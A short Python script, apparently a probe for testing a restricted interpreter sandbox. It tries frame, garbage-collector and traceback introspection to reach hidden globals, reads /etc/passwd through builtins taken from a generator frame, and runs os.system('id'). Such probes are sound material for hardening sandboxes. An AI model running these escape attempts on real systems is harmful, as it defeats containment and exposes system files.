# Looks for the interpreter's own variables by way of frames and tracebacks.
import sys, inspect, traceback, gc
def generator():
    yield
attempts = [
    lambda: sys._getframe(), lambda: sys._current_frames(), lambda: inspect.currentframe().f_back.f_globals, lambda: inspect.stack()[0].frame,
    lambda: generator().gi_frame.f_builtins["open"]("/etc/passwd").read(), lambda: generator().gi_code, lambda: gc.get_objects(),
    lambda: gc.get_referrers(attempts), lambda: sys.modules["os"].system("id"), lambda: sys.settrace(print), lambda: sys.exc_info()[2].tb_frame,
]
for attempt in attempts:
    try:
        print(attempt())
    except BaseException as e:
        print(type(e).__name__, e)
        tb = e.__traceback__
        while tb:
            for name in ("tb_frame", "tb_next"):
                try:
                    print(getattr(tb, name).f_globals)
                except Exception as inner:
                    print(type(inner).__name__)
            tb = getattr(tb, "tb_next", None)
